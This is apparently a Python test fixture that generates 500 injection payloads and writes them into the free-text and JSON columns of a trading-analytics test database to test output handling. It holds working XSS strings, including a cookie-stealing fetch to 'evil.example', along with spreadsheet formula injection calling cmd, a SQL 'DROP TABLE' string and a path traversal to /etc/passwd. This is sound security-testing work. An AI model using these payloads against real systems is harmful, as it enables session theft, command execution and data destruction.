"""Five hundred texts that want to be executed, and a database where other people's text is them.

Every free text column and every string within JSON is replaced, by a function of what stood
there: rows that belonged together still do. Words that are ours (statuses, jobs, dimensions)
stay, and pattern keys, which have letters, digits, _ and - only.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

import sqlalchemy as sa
from sqlalchemy import Connection

from learning.store.schema import metadata

N = 500
HOST = "evil.example"
MARK = "__executed"  # what a script would leave behind in the page

_RUN = (f"window.{MARK}=1", f"parent.{MARK}=1", "alert(1)", f"fetch('//{HOST}/'+document.cookie)")
_ELEMENTS = (
    "<script>{run}</script>",
    '<img src=x onerror="{run}">',
    '<svg onload="{run}">',
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<body onload={run}>",
    '<details open ontoggle="{run}">x</details>',
    '<a href="javascript:{run}">press</a>',
    "<math><mtext></table></math><img src onerror={run}>",
    "'\"><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "<style>@import '//" + HOST + "/{run}.css'</style>",
    '<input autofocus onfocus="{run}">',
    '<object data="javascript:{run}"></object>',
    '<form action="javascript:{run}"><button>go</button></form>',
)
_MARKDOWN = (
    "[press](javascript:{run})",
    "[press](data:text/html,<script>{run}</script>)",
    "![x](http://" + HOST + "/{run}.png)",
    "![x](//" + HOST + '/{run}.png "title")',
    "[![x](https://" + HOST + "/{run})](javascript:{run})",
    "<javascript:{run}>",
    "# heading {run}",
    "```html\n<script>{run}</script>\n```",
    "$\\href{{javascript:{run}}}{{x}}$",
    "$\\includegraphics{{http://" + HOST + "/{run}.png}}$",
    "$$\\htmlData{{x={run}}}{{y}}$$",
    ":red[{run}] :material/delete: :smile:",
    "| a | b |\n|---|---|\n| {run} | <img src=x onerror={run}> |",
)
_FORMULAS = (
    '=HYPERLINK("http://' + HOST + '/{run}")',
    "=cmd|'/c calc {run}'!A0",
    "+SUM(1)*cmd|'{run}'",
    "-2+3+cmd|'{run}'",
    "@SUM(1+1)*{run}",
    "\t=1+1 {run}",
    "\r=1+1 {run}",
    " =1+1 {run}",
    "＝1+1 {run}",
    '=IMPORTXML(CONCAT("http://' + HOST + '/",A1),"//{run}")',
)
_OTHERS = (
    "'; DROP TABLE learning_lessons; -- {run}",
    "{{{{ {run} }}}}",
    "${{{run}}}",
    "%s%n{run}",
    "\u202e{run}\u2066gpj.exe",
    "\u200b\u200d{run}\ufeff",
    "{run}" + "\u0301" * 30,
    "../../etc/passwd {run}",
    "http://" + HOST + "/{run}",
    "www." + HOST + "/{run}",
    "somebody@" + HOST + " {run}",
    "\u0001\u0002\u001b[31m{run}",
    "A" * 300 + "{run}",
)


def payloads() -> list[str]:
    """Return the texts, each of them different."""
    found = list(itertools.islice(_made(), N))
    assert len(set(found)) == N
    return found


def _made() -> Iterator[str]:
    shapes = (*_ELEMENTS, *_MARKDOWN, *_FORMULAS, *_OTHERS)
    for number in itertools.count():
        for shape in shapes:
            yield shape.format(run=f"{_RUN[number % len(_RUN)]}/*{number}*/")


_OURS = {
    "action_category", "code_version", "currency", "format", "from_status", "horizon_verdict",
    "job", "kind", "module", "observer", "origin", "outcome", "pattern_key", "regime_signature",
    "representative_pattern",
    "scope_values_hash", "verdict", "worker",
}  # fmt: skip
_OURS_IN = {("feature_flags", "name"), ("scope_levels", "name"), ("job_runs", "error_id")}
_JSON_OF_OTHERS = {
    "ad_strands": {"content", "regime_context"},
    "pattern_trade_events": {"scope", "controls"},
    "trade_actions": {"scope", "controls"},
    "learning_lessons": {"scope_values", "composition"},
    "scope_levels": {"value"},
    "pm_overrides": {"scope_values"},
    "override_applications": {"scope"},
    "import_batches": {"report"},
}
_FUNCTIONS = """
CREATE FUNCTION hostile(given text, texts text[], round int) RETURNS text IMMUTABLE LANGUAGE sql AS
$$ SELECT texts[1 + (abs(hashtext(given)::bigint) + round * 101) % array_length(texts, 1)]
       || ' ' || md5(given) $$;
CREATE FUNCTION hostile(given jsonb, texts text[], round int) RETURNS jsonb IMMUTABLE
LANGUAGE plpgsql AS $$ BEGIN RETURN CASE jsonb_typeof(given)
    WHEN 'string' THEN to_jsonb(hostile(given #>> '{}', texts, round))
    WHEN 'object' THEN (SELECT coalesce(jsonb_object_agg(key, hostile(value, texts, round)), '{}')
                        FROM jsonb_each(given))
    WHEN 'array' THEN (SELECT coalesce(jsonb_agg(hostile(value, texts, round)), '[]')
                       FROM jsonb_array_elements(given))
    ELSE given END; END $$;
"""


def hostile_columns() -> Iterator[tuple[str, str]]:
    """Yield each table and column that holds words of other people."""
    for table in metadata.sorted_tables:
        listed = " ".join(
            str(rule.sqltext) for rule in table.constraints if isinstance(rule, sa.CheckConstraint)
        )
        for column in table.columns:
            is_free = isinstance(column.type, sa.Text) and f"{column.name} IN (" not in listed
            is_ours = column.name in _OURS or (table.name, column.name) in _OURS_IN
            if (is_free and not is_ours) or column.name in _JSON_OF_OTHERS.get(table.name, ()):
                yield table.name, column.name


def poison(connection: Connection, *, round: int) -> int:
    """Replace the words of other people in every table; return how many columns were reached.

    Append-only rows and what triggers guard are replaced too: as if it had come in that way.
    """
    for table in metadata.tables:
        connection.exec_driver_sql(f'ALTER TABLE "{table}" DISABLE TRIGGER ALL')
    connection.execute(sa.text(_FUNCTIONS.replace(":", r"\:")))
    texts = payloads()
    reached = 0
    for table, column in hostile_columns():
        statement = sa.text(
            f'UPDATE "{table}" SET "{column}" = hostile("{column}", :texts, :round) '
            f'WHERE "{column}" IS NOT NULL'
        )
        changed = connection.execute(statement, {"texts": texts, "round": round}).rowcount
        reached += changed > 0
    connection.exec_driver_sql("DROP FUNCTION hostile(text, text[], int)")
    connection.exec_driver_sql("DROP FUNCTION hostile(jsonb, text[], int)")
    return reached
